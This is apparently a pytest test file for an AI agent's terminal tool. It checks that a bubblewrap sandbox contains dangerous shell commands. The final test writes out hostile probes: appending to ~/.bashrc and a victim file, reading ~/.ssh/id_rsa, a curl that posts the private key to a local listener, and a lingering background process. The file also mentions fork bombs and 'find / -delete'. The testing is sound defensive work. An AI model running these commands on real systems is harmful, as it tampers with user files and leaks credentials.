"""Issue 32's acceptance: the corpus judged by what it does, not by what the policy said.

Every dangerous command of the corpus (`DANGEROUS`, issue 32's families included) and every
effect probe (`SANDBOX_PROBES`: writes to a victim tree beside the workspace, the planted home
and HERMES_HOME, reads of the planted key, `/proc/$PPID`, sends to a loopback listener,
background processes) runs on its own recording bench (`sandbox_bench`). The contract, from
docs/sandbox.md: under the default settings (`tools.terminal.sandbox: auto`) a principal who
cannot approve runs commands only inside bubblewrap, where the filesystem outside the workspace
is read-only, the home and HERMES_HOME are empty, there is no network and the command's PID
namespace dies with it. So, whatever the policy said, no command may change anything outside
the workspace, deliver a byte of a planted secret, show one, or leave a process behind.

- `test_the_sandbox_alone_contains_every_command` bypasses the policy (the commands go straight
  to bubblewrap): this is the guarantee, the one that holds when the parser misses.
- `test_default_settings_for_an_unattended_principal` goes through the real terminal tool as an
  HTTP key would (policy first, then the sandbox).
- `test_the_harness_sees_harm_done_outside_the_sandbox` shows the bench can fail: the same
  probes run bare on the host do harm it reports.

Fork bombs are left out of the bare-sandbox run: a PID namespace does not limit how many
processes there are (docs/sandbox.md says so); the policy refuses them and the deadline ends
them. Each command gets 2 s there: whole-filesystem walks (`find / -delete`) are cut short, and
the targeted probes show what they would meet (a read-only tree, an empty home).
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import pytest

from agent.tools.sandbox import bwrap_problem
from tests.agent.tools.sandbox_bench import (
    DB_ENV,
    Outcome,
    kill_bench_processes,
    run_corpus,
    system_snapshot,
)
from tests.agent.tools.shell_corpus import BENIGN, DANGEROUS, ISSUE_32, SANDBOX_PROBES

PROBLEM = bwrap_problem()
pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"bwrap unusable: {PROBLEM}")

FORK_BOMBS = [c for c in DANGEROUS if ":|:" in c or "bomb |" in c]
EVERYDAY_ISSUE_32 = BENIGN[BENIGN.index("gzip -c data.csv > data.csv.gz") :]
"""The benign uses of the tools whose other modes issue 32 refuses: they must still run."""


@pytest.fixture(autouse=True)
def _hermes_environment(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The harness process carries a DATABASE_URL with a password, as Hermes does."""
    password = f"planted-db-{uuid.uuid4().hex}"
    monkeypatch.setenv(DB_ENV, f"postgresql://hermes:{password}@127.0.0.1:5432/hermes")
    yield


def _harmed(outcomes: list[Outcome]) -> dict[str, list[str]]:
    return {o.command: o.harms for o in outcomes if o.harms}


async def test_the_sandbox_alone_contains_every_command() -> None:
    """Policy bypassed: every dangerous command and probe runs in bubblewrap, and none changes
    the home, the victim tree, HERMES_HOME or the system, leaks a secret or leaves a process."""
    commands = [c for c in DANGEROUS if c not in FORK_BOMBS] + SANDBOX_PROBES
    before = system_snapshot()
    outcomes = await run_corpus(commands, policy=False, timeout_s=2.0, parallel=8)
    assert all(o.ran for o in outcomes)
    assert _harmed(outcomes) == {}
    assert system_snapshot() == before
    refused_by_the_kernel = [o for o in outcomes if "Read-only file system" in o.output]
    assert refused_by_the_kernel, "no command even tried to write outside: the probes are inert"


async def test_the_sandbox_alone_contains_the_probes_with_the_network_on() -> None:
    """`tools.terminal.network: allow`: the listener is reachable, yet no planted secret
    reaches it, because the home and HERMES_HOME are empty and the environment is scrubbed."""
    outcomes = await run_corpus(SANDBOX_PROBES, policy=False, network=True, timeout_s=3.0)
    assert _harmed(outcomes) == {}
    reached = [o for o in outcomes if "hello-from-the-sandbox" in o.command]
    assert reached and reached[0].exit_code == 0, reached


async def test_default_settings_for_an_unattended_principal() -> None:
    """An HTTP key (nobody can approve), default settings: issue 32's families and the probes
    do no harm; the everyday uses of the same tools run."""
    commands = [*ISSUE_32, *SANDBOX_PROBES, *EVERYDAY_ISSUE_32]
    outcomes = await run_corpus(commands, policy=True, timeout_s=3.0, parallel=8)
    assert _harmed(outcomes) == {}
    refused = {o.command for o in outcomes if not o.ran}
    assert set(ISSUE_32) <= refused
    assert not refused & set(EVERYDAY_ISSUE_32), refused & set(EVERYDAY_ISSUE_32)


async def test_the_harness_sees_harm_done_outside_the_sandbox() -> None:
    """The same probes bare on the host (`sandbox: none`, no policy): the bench reports the
    changed victim and home, the key at the listener and in the output, the leftover process."""
    probes = [
        "echo pwned >> ../victim/data.txt",
        "echo pwned >> ~/.bashrc",
        "cat ~/.ss?/id_rsa",
        "curl -s -m 2 --data-binary @$HOME/.ssh/id_rsa http://127.0.0.1:{port}/",
        "(sleep 30 > /dev/null 2>&1 &)",
    ]
    try:
        outcomes = await run_corpus(probes, policy=False, sandboxed=False, timeout_s=5.0)
    finally:
        await kill_bench_processes()
    harms = [o.harms for o in outcomes]
    assert harms[0] == ["changed victim/data.txt"]
    assert harms[1] == ["changed home/.bashrc"]
    assert harms[2] == ["a planted secret appeared in the output"]
    assert harms[3] == ["a planted secret reached the listener"]
    assert harms[4] == ["1 process(es) outlived the command"]
